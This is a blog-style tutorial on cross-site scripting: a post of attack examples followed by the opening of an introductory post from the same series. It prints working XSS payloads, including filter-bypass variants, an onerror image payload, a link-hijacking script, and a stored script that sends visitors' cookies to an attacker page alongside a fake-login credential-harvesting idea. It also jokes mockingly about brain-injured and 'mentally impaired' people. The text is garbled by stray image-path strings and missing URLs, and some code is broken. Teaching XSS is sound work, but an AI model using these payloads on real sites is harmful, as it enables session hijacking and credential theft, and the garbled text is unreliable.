These steps can either be done manually or using an automated fuzzing framework. Personally, I like to go the manual route but that’s just because most fuzzingframeworks have a tremendous learning curve. If you’re performing a large-scale penetration test, going with the web app fuzzing framework would definitely be the smart thing to do and save some time.

Let’s consider the welcome banner example I went over briefly in my previous post. Most articles and papers about XSS like to start out with this example. Imagine a social news bookmarking site like Digg. We’ll call it When users login, the site displays a friendly welcome banner in the upper corner of the page. Perhaps the codelooks like this:



<form action="welcome.php" method="get">
    <label for="uname">Username:</label>
    <input type="text" name="uname" id="uname" />

    <label for="passwd">Password:</label>
    <input type="password" name="passwd" id="passwd" />

    <input type="submit" />



We see that the web app uses the GET request and two variables: uname and passwd (by the way, never ever, ever, ever use GET when transmitting passwords). We can check to see if properly sanitizes its user input field by using the following URL:<script>alert('XSS')</script>

If no form of sanitization is applied, this will result in a popup message that displays “XSS”. Awesome! We can now effectively use as our own personal JavaScript interpreter. This means that welcome.phpwill probably look something like this:



echo "Welcome " . $_GET['uname'];



Look at that; nothing! No character encoding or escaping whatsoever. It’s unlikely that you’ll encounter something as moronic as this though. You are more likely to see at least some type of escaping taking place but still lacking in some areas; thus, remaining vulnerable.

For instance, a web developer might try to filter script tags using regular expressions like this:

// Ima catch all those stupid h4x0rz
if (preg_match("/<script[^>]*>/", $_GET['uname'])) {
    echo "Nice try, jerk!";
else {
    echo "Welcome " . $_GET['uname'];

However, this can easily be circumvented. Can you guess how? Well, there are several ways but remember that HTML is case insensitive? Yeah, remember how ugly everybody’s code used to look during the 90’s? All we have to do is change the case of at least one of the letters in the word “script”.<SCRIPT>alert('XSS')</SCRIPT>And now we’re back in business. Another way to circumvent attempts to filter input is to encode different parts of your script. Using the same filter, we can get around it using the following URL:<script>alert('XSS')</script>

All I did here was encode the ASCII value for the letter ‘t’ which is 0x74. The examples could go on and on. There’d be no way to cover every possible way to get around content filtering since each web app is going to use different ways or a combination of ways to sanitize its input fields.Fortunately, RSnake has put together a very comprehensive list of common JavaScript attack vectors here.

Perhaps you’re thinking, “So what’s next? What can I do now?” The answer is: anything. That’s what makes XSS so fun! You have a nearly unlimited amount of room for creativity. When you’ve compromised a machine (and it better be your own) and you’re able to ask yourself, “What can I do with this now?”, you’re in for a fun time. You don’t always get that amount of freedom with certain exploits. I’ll go over some of the most common uses though.

XSS is most commonly used for session hijacking and cookie theft. I’d imagine because it’s astonishingly easy. Since everything up until now has been examples of reflected attacks, let me show you what a stored attack might look like.

Let’s say you’ve found an XSS vulnerability in the Tweedledum message boards. They allow you to include embedded HTML but try to filter it using the /(<script[^>]*>)*|(javascript:)*/ regular expression. You’re a super evil bad guy and want to steal everyone’s cookies. You’d probably post a message like this:

I'm just a normal post. Don't mind me. I'm definitely not stealing your
cookie so I can hijack your session and take over your account. Nope. Notfunction stealMyCookiePlz() {
    window.location = '' + escape(document.cookie);

<img src="" onmouseover="javascript :stealMyCookiePlz()" />

This embeds a small script in the post that sends the user’s cookie to every time their mouse hovers over the image. You could be even more creative and make cookie_monster.php redirect the user right back to the original Tweedledum post. Or if stealing cookies isn’t enough, you could make cookie_monster.php into a fake Tweedledum login page saying something like “Your session has expired, please log back in” so that you could steal their credentials before redirecting them back to the forum.

Notice the uppercase R in the <script> tag and the space between javascript and : in the onmouseover event. This is so that the script slips through and doesn’t match the regular expression.

Yes, that last example was a bit contrived. If you really were a jerk hijacking people’s accounts, you wouldn’t want to risk people not hovering their mouse over the image. Instead you’d just send them to right away when the page loaded. However, I mixed things up a bit to demonstrate my next point: how HTML attributes and DOM events can be used in attack vectors.

Merely filtering out <script> tags is not enough to protect your site from XSS attacks. JavaScript statements can still appear inside HTML attributes and DOM event handlers. Similar to the last example, you could post:

<b onmouseover="window.history.back()">Just some "harmless" text. ;)</b>

This is just a harmless but really annoying prank that would send the user back to the previous page when their mouse hovered over the text.

One of my favorites is using an erroneous <img> tag:

<img src="" onerror="alert('Howdy!')" />

This one isreally clever. The <img> tag points to an image that doesn’t exist. However, adding the onerror handler forces the code to execute. Pure genius!

One last example I want to look at uses error pages. We’ve all seen them before: 404 error: File not found. Some web developers like to be a fancy pants and configure their server to display a customized error page instead. (Fun fact: Internet Explorer before version 7 refused to display custom error pages unless they were larger than 512 bytes. Add that to the list of things IE won’t do.) If not done properly, they can be used for XSS attacks. Anunwise web developer might implement a custom error page like this:

echo "Nah, you trippin' homez. ";
echo "Ain't no " . urldecode($_SERVER['REQUEST_URI']) . " page here.";echo "Betta check yoself!";

This page would be rendered when querying a non-existent page. For example:

This would send the following response:

Nah, you trippin' homez. Ain't no /baz.html page here. Betta check yoself!

Oh no he didn’t! Ima pop some JS in his ass! Translation: “I am going to embed malicious JavaScript in your error page, sir.”<script>alert('Take that, jerk!')</script>

This time, you’d get the ghetto-ass error message but with the embedded script along with it. Now it’s just a matter of luring someone to the URL.

Ok, I lied. One more example. I just thought of another really cool idea:

window.onload = function() {
    var links = document.getElementsByTagName('a');

    for (var i = 0; i < links.length(); i++) {
        links[i].href = '';

This script would change every link on the page to point to This would be especially devastating in the case of a stored attack since all the links would be changed permanently.

There are also several tools available for testing XSS vulnerabilities. OWASP has the CAL9000 project. It’s a collection of web application security testing tools. Unfortunately, it’s no longer actively maintained but it might still prove useful nevertheless. There’s also XSS-Proxy which is a neat little Perl Script designed just for XSS. Another effective tool is ratproxy. Similar to CAL9000, it too is a web app security auditing tool that covers a broad range of security problems, not just XSS. Lastly, you may also want to try Burp Proxy. However, I don’t know much about it since it’s shareware.

Hopefully, this gives you a good idea of all the funthings that can be done using XSS. I highly urge you to quick setup a small LAMP server in a virtual machine and try it out for yourself. Don’t just take my word for it. It’s a blast! Even though XSS can be fun, it’s quite easy to see how quickly it can become a serious breach of security if in the wrong hands. For that reason, next week I will be writing about how to prevent these types of attacks.

Cross-site Scripting – An Introduction

You won’t find me delving into the world of web design too often. Once in a blue moon, maybe I’ll fool around with some JavaScript or XHTML but when I do, I just don’t find it to be that fun. That awful mash-up of control statements, formatting, and actual data leavesme with a strange combination of boredom and headache. That’s a whole other post though so I won’t digress. However, since I’m obviously writing this blog, I’ve had to bite the bullet for the past couple of days and refresh my memory of web applications. For some reason, I keep finding myself coming back to the subject of cross-site scripting. There’s just something about the idea of code “injection” that really gets me excited. Besides, according to CWE, cross-site scripting has become the most commonly reported security vulnerability next to buffer overflows; what’s not awesome about that!?

I’m going to make this into a three-part series of posts. Today will be a general overview of what cross-site scripting is and the different types of attacks. Next I’ll include somereal world examples and common attack vectors. Things just wouldn’t be complete if I didn’t talk about how to prevent these naughty scripts and how to review your code for XSS vulnerabilities which will be the focus of the lastpost.

In its most basic form, cross-site scripting (XSS) is a form of code injection that allows an attacker to embed or “inject” malicious code into an otherwise legitimate website. Essentially, the attacker is taking advantage of the fact that the web application thinks it’s ok to store code from an unknown source because it doesn’t know any better. This code generally takes the form of client-side scripts in JavaScript but just about any embedded content poses a potential threat such as VBScript, PHP, ASP, Flash, ActiveX, etc. That’s part of what makes XSS so widespread; it’s not associated with just one or two languages. It’s not like you could use VBScript for your web app because it’s “safer than JavaScript.” XSS exists due to poor design practices on part of the web developer.

XSS attacks can occur anywhere a web application that makes use of input from the user but fails to sanitize it properly. Unvalidated user input is really just the first criteria for an attack. The real damage happens when that input is used by the server to generate dynamic content such as a results page.

So what can attackers do with all this? The consequences range from being a mere annoyance to total account take overs. In severe cases, an attacker can steal your session cookie, hijack your session, and completely take over your account. Even more dangerous, XSSvulnerabilities can lead to the installation of trojans, full disclosure of sensitive user information, redirection to other malicious sites, and on and on; the number of possibilities is really up to the attacker’s imagination. Think about what could happen if a pharmaceutical site was vulnerable to an XSS flaw. An attacker could modify dosage information for patients which could lead to an overdose. Imagine that: literally killingpeople with code. That’s some serious shit. It’d take a pretty heartless person to accomplish something like that but my point is that anything is possible with XSS.

A classic example is the user login form. When a user enters their username at a login page, the string is typically redisplayed unchanged after singing in to indicate that they have successfully logged in. If the username field is not properly sanitized by rejecting or at leastencoding HTML control characters, it becomes a gaping hole for attackers to do as they please. This is actually a certain type of XSS called a reflected attack. Let’s take a look at what that means.

The types of attacks that use cross-site scripting as an attack vector are nearly limitless but security experts generally recognize two different types of attacks: non-persistent (or reflected) attacks and persistent (or stored) attacks. As a matter of fact, there’s actually a third type called a DOM-based attack where the DOM environment is actually modified. However, this is a more advanced form of XSS and I’m not really interested in going that deep into the subject. For those of you who are curious, OWASP has a great article about it here.

Non-persistent XSS vulnerabilities are among the most common types that show up and is generally what is referred to when people talk about cross-site scripting. They occur when input data supplied by a web form is included in the dynamic content of the server’s response. They are sometimes called reflected attacks because the injected code is said to be “reflected” off the web server. You might be thinking “What’s so dangerous about all this if all you can do is infect your own page? No big deal. Whatever, I’m just gonna go watch videos of dancing pigs now.” Well, you’re kind of right. However, sprinkle on a small layer of social engineering and now you’re getting somewhere. Reflected XSS attacks are usually delivered in emails where the victim is baited into visiting a seemingly innocent website. The included URL is specially crafted to point to a legitimate website butalso contains the XSS vector.

Consider the following scenario. Imagine that you’ve just suffered a horribly traumatic brain aneurysm which has left your brain so impaired that you now actually enjoy visiting sites like Facebook and Twitter. <tap on the shoulder followed by whispering> Wait…what? Regular non-disabledpeople habitually update their Facebook status at a rate that nearly suggests narcissistic personality disorder too? I always thought those people were just mentally impaired. Hmm, guess you learn something dumb everyday. Anyway, imagine that you are a completely normal person logged into your Facebook. You receive an email informing you that Facebook has been super l33t h4ck3d and you need to re-login and change your password…fast! You, being a not mentally impaired person who believes that kind of thing, clicks on the link provided in the email. The link really does direct you to Facebook but contains some malicious JavaScript embedded in it. You login again, all fine and dandy, while your browser blindly executes the embedded script that steals your session cookie and sends it to Now evil bad guys can hijack your session by impersonating you. I’ll leave the rest up to yourimagination. Actually, Facebook has fallen victim to several XSS attacks in the past.

The second type of XSS vulnerability is the persistent attack. This occurs when the data input by the attacker is not just included in the dynamic content but is actually stored on the web server permanently. That’s why it’s also called a stored attack. As you’d imagine, this is what makes it the most devastating of XSS flaws. This malicious code typically gets stored in places like databases, message boards, guestbooks, and blog comments. Since the code is stored on the server, it will permanently be displayed on normal pages to anybody that visits it; there’s no need to trick users into visiting a specially crafted URL.Ever wondered why every message board you visit doesn’t allow you to embed HTML tags in your posts? Here’s why. Imagine an attacker – let’s call him Stu, Stu Pid – discovers that the Foobar message boards allow users to embed HTML tags in posts. Stu Pid starts a new thread with some malicious JavaScript embedded in it. He lays down some flamebait by giving it a highly controversial topic to ensure that plenty 